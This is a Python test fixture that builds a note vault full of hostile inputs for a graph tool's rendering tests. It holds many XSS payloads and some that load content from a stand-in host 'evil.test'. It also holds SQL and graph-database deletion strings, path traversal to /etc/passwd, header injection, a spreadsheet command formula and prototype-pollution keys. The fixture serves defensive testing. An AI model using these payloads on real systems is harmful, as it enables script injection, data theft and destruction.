"""A vault whose every word would do harm, were it anything but text.

Each of ``NAMES`` is a note's title, alias, heading and sentence, the words of a link and of a tag,
the name of a relation, and the name of a cluster; each of ``FILES`` is the name of a file; each of
``BODIES`` is what stands in a note.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Final

from graphkit.questions.clusters import clusters
from graphkit.questions.map_changes import rename
from graphkit.stores.embedded import EmbeddedStore

if TYPE_CHECKING:
    from pathlib import Path

_RUN: Final = "alert(window.hacked=1)"
ELSEWHERE: Final = "evil.test"
"""The host that nothing may be asked of."""

NAMES: Final = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title></style></textarea><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"<img src=//{ELSEWHERE}/a.png>",
    f"<img srcset='//{ELSEWHERE}/b.png 2x'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>svg</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mi xlink:href=javascript:{_RUN}>math</mi></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={_RUN}></annotation-xml></math>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data=//{ELSEWHERE}/o></object>",
    f"<embed src=//{ELSEWHERE}/e>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>moves</marquee>",
    f"<a href=javascript:{_RUN}>press</a>",
    f"<form action=//{ELSEWHERE}/f><button>press</button></form>",
    f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content=0;url=//{ELSEWHERE}/>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/s.css>",
    f"<style>@import '//{ELSEWHERE}/s.css';</style>",
    "<style>body{display:none}</style>",
    f"<p style='width:expression({_RUN})'>wide</p>",
    f"<div style='background:url(//{ELSEWHERE}/b)'>behind</div>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml <img src=x onerror={_RUN}>?>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"%3Cimg%20src=x%20onerror={_RUN}%3E",
    f"＜img src=x onerror={_RUN}＞",
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"javascript://{ELSEWHERE}/%0a{_RUN}",
    f"java\\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    f"//{ELSEWHERE}/",
    f"http://127.0.0.1@{ELSEWHERE}/",
    f"';{_RUN};'",
    f'";{_RUN};"',
    f"`${{{_RUN}}}`",
    f"${{{_RUN}}}",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"<%= {_RUN} %>",
    "__NONCE__",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "1e999",
    "[object Object]",
    '{"error":{"code":"x","candidates":null}}',
    "}]};",
    "#concept=n0&pane=note",
    "&concept=n0&table=1",
    "?token=x",
    "%00%0d%0aSet-Cookie: a=b",
    "%",
    "%E0%A4%A",
    "+ +",
    "$& $1 $$ $`",
    "\\",
    "'\"`",
    "(.*)+$",
    "[a-",
    "..//..//etc//passwd",
    "'; DROP TABLE notes; --",
    '" OR ""="',
    "MATCH (n) DETACH DELETE n",
    "* NEAR(a b) -c",
    "\u202egnp.exe",
    "\u2066\u202eleft\u202c right\u2069",
    "\u200b",
    "a\u2028b",
    "e" + "\u0301" * 60,
    "\U0001f469\u200d\U0001f4bb\ufe0f",
    "\ufdfd" * 12,
    "W" * 900,
    "<" * 300,
    "=cmd|' /C calc'!A0",
)

FILES: Final = (
    f"<img src=x onerror={_RUN}>",
    f'"><svg onload={_RUN}>',
    f"<script>{_RUN}<∕script>",
    f"javascript:{_RUN}",
    "data:text,x",
    "__proto__",
    "__proto__/__proto__",
    "constructor",
    "toString/valueOf",
    "<b>bold</b>"[:-4] + "/inside",
    "a#b",
    "a?b=c&d",
    "%2e%2e%2fpasswd",
    "%",
    "a'b\"c`d",
    "a\\b",
    "a|b",
    "a[b]c",
    "\u202egnp.exe",
    "n" * 240,
    " space ",
    "…",
    "__NONCE__",
    "&amp;&lt;",
    "$&",
)

BODIES: Final = (
    f"<script>{_RUN}</script>\n\n<script src=//{ELSEWHERE}/s.js></script>",
    f"<ScRiPt\n>{_RUN}</sCrIpT\t\n>",
    f"<img src=x onerror={_RUN}> <img/src=x/onerror={_RUN}> <img src=//{ELSEWHERE}/i.png>",
    f"![picture](//{ELSEWHERE}/p.png) ![[//{ELSEWHERE}/q.png]] ![[x.svg]] ![x](data:image/svg+xml,<svg onload={_RUN}>)",  # noqa: E501
    f"<svg onload={_RUN}><script>{_RUN}</script><use href=//{ELSEWHERE}/u.svg#u /></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",  # noqa: E501
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"[a](javascript:{_RUN}) [b](JAVASCRIPT:{_RUN}) [c](&#106;avascript:{_RUN})",
    f"[d](<java\tscript:{_RUN}>) [e](\x01javascript:{_RUN}) [f](javascript&colon;{_RUN})",
    f"[g](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [h](vbscript:{_RUN})",
    f"[i](file:///etc/passwd) [j](blob:x) [k](view-source:x) [l](//{ELSEWHERE}/)",
    f"<javascript:{_RUN}> <data:text/html,{_RUN}>",
    f'[m][m] [n][n]\n\n[m]: javascript:{_RUN}\n[n]: <data:text/html,x> "onclick={_RUN}"',
    f'[o](https://{ELSEWHERE}/ "\\" onmouseover={_RUN} x=\\"")',
    f"<a href=javascript:{_RUN} onclick={_RUN} ping=//{ELSEWHERE}/ping>press</a>",
    f"<a href=\"&#x6A;avascript&#58;{_RUN}\">press</a> <a href=' javascript:{_RUN}'>press</a>",
    f"<a data-concept='n1' href='javascript:{_RUN}' id=map name=graphkitTest>walk on</a>",
    f"<iframe src=//{ELSEWHERE}/></iframe><iframe srcdoc='<script>top.{_RUN}</script>'></iframe>",
    f"<object data=//{ELSEWHERE}/o type=text/html></object><embed src=//{ELSEWHERE}/e><applet></applet>",  # noqa: E501
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'><base href=//{ELSEWHERE}/>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/s.css><link rel=prefetch href=//{ELSEWHERE}/p>",
    f"<style>@import url(//{ELSEWHERE}/s.css); #side {{ background: url(//{ELSEWHERE}/b) }}</style>",  # noqa: E501
    "<style>body, #map, #side { display: none !important }</style>",
    f"<div style='position:fixed;inset:0;z-index:9999;background:url(//{ELSEWHERE}/c)'>over all</div>",  # noqa: E501
    f"<form action=//{ELSEWHERE}/f method=post><input name=q autofocus onfocus={_RUN}><button>Send</button></form>",  # noqa: E501
    f"<button formaction=javascript:{_RUN}>press</button><input type=image src=//{ELSEWHERE}/i>",
    f"<template><script>{_RUN}</script></template><slot name=x></slot>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<video autoplay poster=//{ELSEWHERE}/v><source src=//{ELSEWHERE}/v.mp4 onerror={_RUN}></video>",  # noqa: E501
    f"<audio autoplay src=//{ELSEWHERE}/a.mp3 onerror={_RUN}></audio><track src=//{ELSEWHERE}/t>",
    f"<details open ontoggle={_RUN}><summary>more</summary>inside</details>",
    f"<dialog open onclose={_RUN}>a window</dialog><div popover>another</div>",
    "<p id=side>another side</p><div id=said>nothing said</div><img name=querySelector>",
    "<p class='pane failure unseen came'>its classes</p><p dir=rtl lang=xx>its direction</p>",
    f"<!-- --!><img src=x onerror={_RUN}> --> <!--[if IE]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[ ><img src=x onerror={_RUN}> ]]> <?php {_RUN} ?> <!DOCTYPE html [<!ENTITY x 'y'>]>",
    f"```html\n<script>{_RUN}</script>\n```\n\n    <script>{_RUN}</script>\n\n`<script>{_RUN}</script>`",  # noqa: E501
    f'```" onmouseover={_RUN} x="\nthe language of this block\n```\n\n```mermaid\ngraph TD; A-->B; click A "javascript:{_RUN}"\n```',  # noqa: E501
    f"$$\\href{{javascript:{_RUN}}}{{x}} \\unicode{{<img src=x onerror={_RUN}>}}$$ and $</span><script>{_RUN}</script>$",  # noqa: E501
    f"| <script>{_RUN}</script> | b |\n|-|-|\n| <img src=x onerror={_RUN}> | [[n1\\|<svg onload={_RUN}>]] |",  # noqa: E501
    f'[[n1|<img src=x onerror={_RUN}>]] [[n2|" onclick={_RUN} x="]] [[<script>{_RUN}<∕script>]]',
    f"[[n1#<img src=x onerror={_RUN}>|there]] [[javascript:{_RUN}]] [[//{ELSEWHERE}/|x]]",
    f"![[n1]] ![[n2#<svg onload={_RUN}>]] ![[<img src=x onerror={_RUN}>.png|100]]",
    f"A claim.[^1] [^<img src=x onerror={_RUN}>]\n\n[^1]: <script>{_RUN}</script>",
    f"> [!note]- <img src=x onerror={_RUN}>\n> <script>{_RUN}</script>",
    f"<a data-t='00:00:01\" onclick=\"{_RUN}'>[00:00:01]</a> <a data-t='javascript:{_RUN}'>x</a> said with [[n1]].",  # noqa: E501
    f'<img src=x onerror={_RUN}>:: [[n1]]\n"><svg onload={_RUN}>: [[n2]]\n(__proto__:: [[n3]])',
    "constructor:: [[n1]]\n__proto__:: [[n2]]\ntoString:: [[n3]]",
    "<div>" * 3000 + "deep",
    "> " * 800 + "deep [[n1]]",
    "[" * 2000 + "x" + "](y)" * 2000,
    "*" * 4000 + " [[n1]] " + "_" * 4000,
    "x" * 50_000 + " [[n1]]",
    "\u202e[[n1]] from the right \u2066<b>",
    "[[n1]] \x07\x1b[31m\x7f\ufffe\ufeff",
    "<xmp><script>alert(1)</script></xmp><plaintext><listing>the rest is text",
    "<select><option>a<script>alert(1)</script></select><textarea></textarea><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset><portal src=x></portal>",
    "<x-widget onclick=alert(1) is=x><p slot=y contenteditable>write here</p></x-widget>",
)

_SIDE: Final = 9
"""Notes that are linked with each other, so that they come to be a cluster."""


def write_hostile_vault(vault: Path) -> list[str]:
    """Writes the vault into a folder.

    Args:
        vault: the folder; need not be there.

    Returns:
        The ids of its notes whose titles are ``NAMES``, in that order.
    """
    ids = [f"n{number}" for number in range(len(NAMES))]
    for number, name in enumerate(NAMES):
        first = number // _SIDE * _SIDE
        size = min(_SIDE, len(NAMES) - first)
        others = [first + (number - first + step) % size for step in (1, 3, 4)]
        _write(vault, ids[number], _note(name, [ids[other] for other in others]))
    for number, file in enumerate(FILES):
        _write(vault, file, f"This file has a name. It is near [[n{number}]].\n")
    for number, body in enumerate(BODIES):
        head = f"---\ntitle: Body {number}\nvideoId: '{_RUN}'\nurl: javascript:{_RUN}\n---\n"
        _write(vault, f"bodies/b{number}", f"{head}It begins with [[n{number}]].\n\n{body}\n")
    _name_clusters(vault)
    return ids


def _note(name: str, others: list[str]) -> str:
    head = {
        "title": name,
        "aliases": [f"{name} alias", name.upper()],
        "tags": [name, "tag"],
        name[:200]: f"[[{others[0]}]]",
        "videoId": "aaaaaaaaaaa",
    }
    told = "\n".join(
        json.dumps({key: value}, ensure_ascii="\u2028" in name)[1:-1] for key, value in head.items()
    )
    words = name.replace("|", "").replace("]]", "").replace("[[", "")
    return (
        f"---\n{told}\n---\n# {name}\n\n{name}\n\n"
        f"## Under {name}\n\nBefore {name} stands [[{others[0]}|{words}]] and {name} behind.\n\n"
        f"- {name}:: [[{others[1]}]]\n\n{name} (that:: [[{others[2]}]]) </script>\n\n"
        f'<a data-t="00:00:07">[00:00:07]</a> At this moment [[{others[1]}]] is said: {name}.\n'
    )


def _write(vault: Path, name: str, text: str) -> None:
    file = vault / f"{name}.md"
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(text.encode("utf-8", "surrogatepass"))


def _name_clusters(vault: Path) -> None:
    """Gives each cluster a name that would do harm; none has two, so the names differ."""
    store = EmbeddedStore(vault, index=vault.with_name("names.sqlite"))
    store.refresh()
    for cluster, name in zip(clusters(store).clusters, NAMES, strict=False):
        rename(store, str(cluster.id), name)
    store.close()
